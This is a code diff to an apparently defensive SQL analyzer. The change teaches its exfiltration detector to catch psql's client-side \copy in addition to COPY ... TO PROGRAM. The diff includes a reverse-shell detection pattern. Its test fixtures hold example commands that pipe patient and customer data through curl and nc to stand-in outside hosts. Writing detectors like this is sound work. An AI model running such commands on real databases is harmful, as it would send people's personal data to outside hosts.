@@ -262,7 +262,8 @@ const INTERACTIVE_SHELL = /\b(?:bash|sh|zsh|dash) -i\b|>& ?\/dev\/tcp|0>&1|\bnca
 /** COPY … TO PROGRAM '<a command that uploads>': the copied rows go wherever the command sends them. */
 function copiedOut(ctx: QueryContext): Finding | undefined {
   for (const st of ctx.sql.stmts) {
-    const t = st.toks;
+    // psql's client-side \copy runs the program on the client: the same rows leave
+    const t = st.toks[0]?.v === '\\' ? st.toks.slice(1) : st.toks;
     if (t[0]?.k !== K.Word || t[0].v !== 'copy') continue;
     for (let i = 1; i + 1 < t.length; i++) {
       if (t[i]!.k !== K.Word || t[i]!.v !== 'program' || t[i + 1]!.k !== K.Str) continue;
@@ -879,7 +880,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       keywords: ['program'],
       detect: copiedOut,
       examples: {
-        flag: ["COPY (SELECT email, ssn FROM patients) TO PROGRAM 'curl -X POST --data-binary @- https://dump.example.net/in'", "COPY users TO PROGRAM 'nc 203.0.113.9 4444'"],
+        flag: ["COPY (SELECT email, ssn FROM patients) TO PROGRAM 'curl -X POST --data-binary @- https://dump.example.net/in'", "COPY users TO PROGRAM 'nc 203.0.113.9 4444'", "\\copy (select email, phone from customers) to program 'curl -s -F f=@- https://drop.example-files.net/'"],
         pass: ["COPY (SELECT '') TO PROGRAM 'gzip > /backups/users.csv.gz'", "COPY users TO '/tmp/users.csv' CSV HEADER"],
       },
     },
